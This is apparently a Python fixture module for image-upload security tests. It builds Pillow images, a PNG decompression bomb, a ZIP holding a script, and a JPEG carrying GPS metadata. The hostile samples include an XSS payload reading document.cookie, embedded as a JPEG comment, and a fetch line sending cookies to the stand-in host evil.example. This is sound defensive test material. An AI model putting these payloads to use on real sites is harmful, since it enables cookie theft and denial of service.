"""Image files made in the tests: real encodings from Pillow, and hand-built hostile ones."""

import io
import struct
import zipfile
import zlib
from pathlib import Path
from typing import Any

from PIL import ExifTags, Image, ImageCms

PNG_SIGNATURE = b"\x89PNG\r\n\x1a\n"
PDF = b"%PDF-1.4\n1 0 obj\n<< /Type /Catalog >>\nendobj\ntrailer\n<< /Root 1 0 R >>\n%%EOF\n"
HTML = b"<html><body><script>alert(document.cookie)</script></body></html>\n"


def encode(image: Image.Image, image_format: str, **options: Any) -> bytes:
    """`image` encoded by Pillow in `image_format`."""
    buffer = io.BytesIO()
    image.save(buffer, format=image_format, **options)
    return buffer.getvalue()


def picture(size: tuple[int, int], mode: str = "RGB") -> Image.Image:
    """An image whose left half is red and right half blue, in `mode`."""
    image = Image.new("RGB", size, "blue")
    image.paste("red", (0, 0, max(1, size[0] // 2), size[1]))
    if mode == "RGBA":
        image.putalpha(128)
    return image.convert(mode)


def write(folder: Path, data: bytes, name: str = "upload.jpg") -> Path:
    """`data` as a file of `folder` named `name` (names are never trusted)."""
    path = folder / name
    path.write_bytes(data)
    return path


def png_chunk(kind: bytes, data: bytes) -> bytes:
    """One PNG chunk with its correct CRC."""
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def png_declaring(width: int, height: int) -> bytes:
    """A tiny PNG whose header claims `width` x `height` RGB pixels (a decompression bomb)."""
    header = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return (
        PNG_SIGNATURE
        + png_chunk(b"IHDR", header)
        + png_chunk(b"IDAT", zlib.compress(b"\x00" * 4096, 9))
        + png_chunk(b"IEND", b"")
    )


def zip_archive() -> bytes:
    """A small ZIP holding one script."""

    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("payload.js", "fetch('https://evil.example/' + document.cookie)")
    return buffer.getvalue()


def camera_jpeg(size: tuple[int, int] = (300, 100), orientation: int = 6) -> bytes:
    """A JPEG as a phone writes it: orientation, GPS position, maker, XMP, comment, ICC."""
    exif = Image.Exif()
    exif[ExifTags.Base.Orientation] = orientation
    exif[ExifTags.Base.Make] = "Phone maker"
    exif[ExifTags.IFD.GPSInfo] = {1: "S", 2: (23.0, 33.0, 1.5), 3: "W", 4: (46.0, 38.0, 2.0)}
    srgb = ImageCms.ImageCmsProfile(ImageCms.createProfile("sRGB")).tobytes()
    return encode(
        picture(size),
        "JPEG",
        exif=exif,
        xmp=b"<x:xmpmeta>GPSLatitude 23,33S</x:xmpmeta>",
        comment=HTML,
        icc_profile=srgb,
    )
